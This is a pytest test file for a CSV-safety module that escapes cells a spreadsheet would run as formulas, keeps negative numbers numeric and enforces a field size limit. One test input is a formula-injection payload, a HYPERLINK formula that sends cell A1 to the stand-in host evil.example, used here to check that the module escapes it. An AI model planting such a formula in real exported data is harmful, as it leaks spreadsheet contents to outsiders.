"""CSV cells a spreadsheet would run as formulas are neutralised; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import sys
from decimal import Decimal

import pytest

from kubat.core import csvsafe


def spreadsheet_reading(cell: str) -> str:
    """What a spreadsheet opening the CSV makes of a cell: a number, text, or a formula."""
    try:
        float(cell)
    except ValueError:
        pass
    else:
        return "number"
    if cell.startswith(csvsafe.QUOTE):
        return "text"
    if cell.lstrip("\t\r").startswith(csvsafe.FORMULA_TRIGGERS[:4]) or cell.startswith(
        ("\t", "\r")
    ):
        return "formula"
    return "text"


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"x")',
        "+996 312 000",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
    ],
)
def test_a_text_cell_starting_a_formula_is_read_as_text(value: str) -> None:
    buffer = io.StringIO()
    csvsafe.writer(buffer).writerow([value])
    (cell,) = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert cell == "'" + value
    assert spreadsheet_reading(cell) == "text"
    assert csvsafe.restore_cell(cell) == value


def test_negative_numbers_stay_numbers() -> None:
    buffer = io.StringIO()
    csvsafe.writer(buffer).writerow([Decimal("-74.569800"), -5, -0.5, "plain"])
    cells = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert cells == ["-74.569800", "-5", "-0.5", "plain"]
    assert [spreadsheet_reading(c) for c in cells] == ["number"] * 3 + ["text"]


def test_a_leading_quote_round_trips_exactly() -> None:
    for value in ["'quoted", "''", "'=x", "ordinary"]:
        assert csvsafe.restore_cell(str(csvsafe.neutralise_cell(value))) == value


def test_the_readers_field_limit_holds_whatever_the_process_csv_limit_is() -> None:
    previous = csv.field_size_limit(sys.maxsize)  # as frictionless does on import
    try:
        text = "a,b\n" + "x" * (csvsafe.MAX_FIELD_CHARS + 1) + ",1\n"
        with pytest.raises(csv.Error, match="field limit"):
            list(csvsafe.DictReader(io.StringIO(text)))
        assert list(csvsafe.DictReader(io.StringIO("a,b\nx,1\n"))) == [{"a": "x", "b": "1"}]
    finally:
        csv.field_size_limit(previous)
